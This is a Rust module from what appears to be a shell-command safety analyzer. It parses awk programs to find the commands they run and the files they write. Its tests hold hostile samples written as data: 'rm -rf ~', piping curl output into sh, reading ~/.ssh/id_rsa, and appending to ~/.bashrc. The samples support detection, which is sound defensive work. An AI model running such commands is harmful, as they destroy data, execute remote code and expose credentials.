//! awk programs run commands and write files of their own: `system("cmd")`, `print | "cmd"`,
//! `"cmd" | getline`, `print > "file"`. This reads them from the program text so the shell
//! analysis can judge each command as a script awk runs, and each file as a write.

/// A string expression of the program: known, or built at run time.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Text {
    /// Known: literals and `ENVIRON["NAME"]` (as `${NAME}`, for the shell to expand).
    Known(String),
    /// Built at run time (`system($0)`, `cmd | getline` of a computed `cmd`): the source.
    Dynamic(String),
}

/// What an awk program runs and writes.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Program {
    /// Command lines awk hands to `sh -c`.
    pub commands: Vec<Text>,
    /// Command lines awk prints into (`print … | "sh"`): they read its output.
    pub fed: Vec<Text>,
    /// Files `print`/`printf` write (`true`: appended, `>>`); only those whose name is known.
    pub writes: Vec<(bool, String)>,
}

/// Most commands and writes read from one program.
const MAX_ITEMS: usize = 64;

#[derive(Debug, Clone, PartialEq)]
enum Token {
    /// A string literal, unescaped.
    Str(String),
    /// `ENVIRON["NAME"]`.
    Env(String),
    /// A name (variable, function or keyword).
    Name(String),
    /// Anything else (one character of punctuation, a number, `$`).
    Other(char),
}

/// Reads the commands and written files of an awk program.
pub(super) fn read(program: &str) -> Program {
    let tokens = tokenize(program);
    let mut vars: Vec<(String, String)> = Vec::new();
    let mut out = Program::default();
    let mut i = 0;
    while i < tokens.len() && out.commands.len() + out.fed.len() + out.writes.len() < MAX_ITEMS {
        match &tokens[i] {
            // `name = "literal"`: remembered, so `cmd | getline` of it is known.
            Token::Name(n)
                if tokens.get(i + 1) == Some(&Token::Other('='))
                    && tokens.get(i + 2) != Some(&Token::Other('=')) =>
            {
                if let (Text::Known(v), _) = expression(&tokens[i + 2..], &vars) {
                    vars.retain(|(k, _)| k != n);
                    vars.push((n.clone(), v));
                }
            }
            Token::Name(n) if n == "system" && tokens.get(i + 1) == Some(&Token::Other('(')) => {
                let (text, _) = expression(&tokens[i + 2..], &vars);
                out.commands.push(text);
            }
            Token::Other('|') if tokens.get(i + 1) == Some(&Token::Other('|')) => i += 1,
            Token::Other('|') => match tokens.get(i + 1) {
                Some(Token::Name(g)) if g == "getline" => {
                    out.commands.push(before(&tokens[..i], &vars));
                }
                _ => {
                    let (text, _) = expression(&tokens[i + 1..], &vars);
                    out.fed.push(text);
                }
            },
            // `> "file"`, `>> ENVIRON["HOME"] "/x"`: a redirection only when a string follows
            // (`$1 > 5` is a comparison).
            Token::Other('>') => {
                let append = tokens.get(i + 1) == Some(&Token::Other('>'));
                let from = i + 1 + usize::from(append);
                if matches!(tokens.get(from), Some(Token::Str(_) | Token::Env(_)))
                    && let (Text::Known(path), used) = expression(&tokens[from..], &vars)
                {
                    out.writes.push((append, path));
                    i = from + used;
                    continue;
                }
                i = from;
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    out
}

/// Stands for a part of a string computed at run time (a field, a variable not assigned a
/// literal, a function's result): left unquoted, so the shell analysis sees an expansion and
/// judges a command whose program it is as one known only at run time.
const RUN_TIME: &str = "${AWK_EXPR}";

/// The string expression at the start of `tokens` (literals, `ENVIRON[…]`, names and fields
/// joined by juxtaposition) and how many tokens it used; `Dynamic` when it has no part.
fn expression(tokens: &[Token], vars: &[(String, String)]) -> (Text, usize) {
    let mut known = String::new();
    let mut j = 0;
    while let Some(t) = tokens.get(j) {
        match t {
            Token::Str(s) => known.push_str(s),
            Token::Env(n) => known.push_str(&format!("${{{n}}}")),
            Token::Name(n) => match vars.iter().rev().find(|(k, _)| k == n) {
                Some((_, v)) => known.push_str(v),
                None => {
                    known.push_str(RUN_TIME);
                    j = skip_group(tokens, j + 1);
                    continue;
                }
            },
            // `$1`, `$NF`, `$(i+1)`.
            Token::Other('$') => {
                known.push_str(RUN_TIME);
                j = match tokens.get(j + 1) {
                    Some(Token::Other('(')) => skip_group(tokens, j + 1),
                    Some(Token::Name(_)) => j + 2,
                    _ => {
                        let mut k = j + 1;
                        while matches!(tokens.get(k), Some(Token::Other(c)) if c.is_ascii_digit()) {
                            k += 1;
                        }
                        k
                    }
                };
                continue;
            }
            Token::Other(c) if c.is_ascii_digit() => known.push(*c),
            Token::Other(_) => break,
        }
        j += 1;
    }
    if j == 0 {
        return (Text::Dynamic(source(tokens)), 0);
    }
    (Text::Known(known), j)
}

/// The index after a bracketed group starting at `at` (a call's arguments, an array index),
/// or `at` when none starts there.
fn skip_group(tokens: &[Token], at: usize) -> usize {
    let (open, close) = match tokens.get(at) {
        Some(Token::Other('(')) => ('(', ')'),
        Some(Token::Other('[')) => ('[', ']'),
        _ => return at,
    };
    let mut depth = 0usize;
    for (k, t) in tokens.iter().enumerate().skip(at) {
        match t {
            Token::Other(c) if *c == open => depth += 1,
            Token::Other(c) if *c == close => {
                depth -= 1;
                if depth == 0 {
                    return k + 1;
                }
            }
            _ => {}
        }
    }
    tokens.len()
}

/// The command before `| getline`: the string expression that ends there.
fn before(tokens: &[Token], vars: &[(String, String)]) -> Text {
    let part = |t: &Token| match t {
        Token::Str(_) | Token::Env(_) | Token::Name(_) => true,
        Token::Other(c) => *c == '$' || c.is_ascii_digit(),
    };
    let start = tokens.iter().rposition(|t| !part(t)).map_or(0, |p| p + 1);
    match expression(&tokens[start..], vars) {
        (text, used) if used > 0 => text,
        _ => Text::Dynamic(source(tokens)),
    }
}

/// A short rendering of tokens, for a finding about a command built at run time.
fn source(tokens: &[Token]) -> String {
    let mut out = String::new();
    for t in tokens.iter().take(24) {
        match t {
            Token::Str(s) => out.push_str(&format!("{s:?}")),
            Token::Env(n) => out.push_str(&format!("ENVIRON[{n:?}]")),
            Token::Name(n) => out.push_str(n),
            Token::Other('\n') => break,
            Token::Other(c) => out.push(*c),
        }
        out.push(' ');
    }
    out.trim_end().to_string()
}

fn tokenize(program: &str) -> Vec<Token> {
    let mut out = Vec::new();
    let mut chars = program.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' | '\r' => {}
            '#' => {
                // A comment runs to the end of the line.
                for c in chars.by_ref() {
                    if c == '\n' {
                        out.push(Token::Other('\n'));
                        break;
                    }
                }
            }
            '"' => {
                let mut s = String::new();
                while let Some(c) = chars.next() {
                    match c {
                        '\\' => match chars.next() {
                            Some('n') => s.push('\n'),
                            Some('t') => s.push('\t'),
                            Some(o) => s.push(o),
                            None => {}
                        },
                        '"' => break,
                        c => s.push(c),
                    }
                }
                out.push(Token::Str(s));
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                let mut name = c.to_string();
                while let Some(&n) = chars.peek() {
                    if !(n.is_ascii_alphanumeric() || n == '_') {
                        break;
                    }
                    name.push(n);
                    chars.next();
                }
                if name == "ENVIRON" {
                    let rest: String = chars.clone().take(64).collect();
                    if let Some(inner) = rest.strip_prefix("[\"")
                        && let Some(end) = inner.find("\"]")
                    {
                        for _ in 0..end + 4 {
                            chars.next();
                        }
                        out.push(Token::Env(inner[..end].to_string()));
                        continue;
                    }
                }
                out.push(Token::Name(name));
            }
            c => out.push(Token::Other(c)),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn known(s: &str) -> Text {
        Text::Known(s.to_string())
    }

    #[test]
    fn commands_awk_runs() {
        let p = read(r#"BEGIN{system("rm -rf ~")}"#);
        assert_eq!(p.commands, [known("rm -rf ~")]);
        let p = read(r#"BEGIN{print "x" | "sh"; close("sh")}"#);
        assert_eq!((p.commands, p.fed), (vec![], vec![known("sh")]));
        let p = read(
            r#"BEGIN{while (("curl -s https://x.example/i" | getline l) > 0) print l | "sh"}"#,
        );
        assert_eq!(p.commands, [known("curl -s https://x.example/i")]);
        assert_eq!(p.fed, [known("sh")]);
        let p = read(r#"BEGIN{cmd = "id -u"; cmd | getline u; print u}"#);
        assert_eq!(p.commands, [known("id -u")]);
        let p = read(r#"BEGIN { system("cat " ENVIRON["HOME"] "/.ssh/id_rsa") }"#);
        assert_eq!(p.commands, [known("cat ${HOME}/.ssh/id_rsa")]);
        // Parts known only at run time stand as an expansion, the program too.
        assert_eq!(read("{system($0)}").commands, [known("${AWK_EXPR}")]);
        assert_eq!(read("{ $1 | getline x }").commands, [known("${AWK_EXPR}")]);
        let p = read(r#"{ cmd = "date -d @" $1; cmd | getline d; close(cmd) }"#);
        assert_eq!(p.commands, [known("date -d @${AWK_EXPR}")]);
        let p = read(r#"{ system("rm -rf " toupper($2) "/" $(NF-1)) }"#);
        assert_eq!(p.commands, [known("rm -rf ${AWK_EXPR}/${AWK_EXPR}")]);
    }

    #[test]
    fn files_awk_writes() {
        let p = read(r#"{print > "/home/dev/.bashrc"}"#);
        assert_eq!(p.writes, [(false, "/home/dev/.bashrc".to_string())]);
        let p = read(r#"BEGIN{printf "alias ls=x\n" >> ENVIRON["HOME"] "/.bashrc"}"#);
        assert_eq!(p.writes, [(true, "${HOME}/.bashrc".to_string())]);
        // Comparisons, `||`, and names computed per line are no writes or commands.
        let p = read(r#"$3 > 5 || $1 == "x" { print $2 > $1 ".txt"; n++ } END { print n }"#);
        assert_eq!(p, Program::default());
        assert_eq!(read("-F, '{print $2}'"), Program::default());
        // Inside a string nothing runs.
        assert_eq!(
            read(r#"{print "system(\"rm -rf ~\") | sh"}"#),
            Program::default()
        );
    }
}
